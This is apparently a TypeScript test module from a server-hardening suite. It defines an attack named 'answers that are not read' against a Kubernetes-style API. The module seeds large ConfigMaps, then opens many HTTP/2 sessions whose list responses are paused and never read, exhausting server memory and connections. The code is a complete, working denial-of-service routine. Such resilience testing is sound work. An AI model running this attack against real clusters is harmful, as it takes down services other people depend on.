import { setTimeout as pause } from "node:timers/promises";
import { bearer, openSession, repeat } from "../lib/hostile.ts";
import { type Attack } from "./attack.ts";

const objects = 40;

export const attack: Attack = {
  name: "answers that are not read",
  claim: "no further answers are made; closed after 30 s",
  needs: "server",

  async prepare(target) {
    for (let n = 0; n < objects; n++) {
      const body = {
        apiVersion: "v1",
        kind: "ConfigMap",
        metadata: { name: `a-${n}` },
        data: { a: "x".repeat(200_000) },
      };
      await target.ask({ method: "POST", path: `/api/v1/namespaces/${target.namespace}/configmaps`, body });
    }
  },

  async run(target, signal) {
    let asked = 0;
    let ended = 0;
    await repeat(signal, async () => {
      const sessions = Array.from({ length: 16 }, () => openSession(target, signal));
      for (const session of sessions) {
        session.on("close", () => ended++);
        for (let n = 0; n < 100; n++) {
          // Different limits, so that each list has its own bytes.
          const path = `/api/v1/namespaces/${target.namespace}/configmaps?limit=${objects - (n % 8)}`;
          session
            .request({ ":path": path, ...bearer(target) })
            .pause()
            .on("error", () => {});
          asked++;
        }
      }
      await pause(65_000, undefined, { signal }).catch(() => {});
      for (const session of sessions) session.destroy();
    });
    return `${asked} lists of 8 MB requested and not read, ${ended} connections ended`;
  },
};
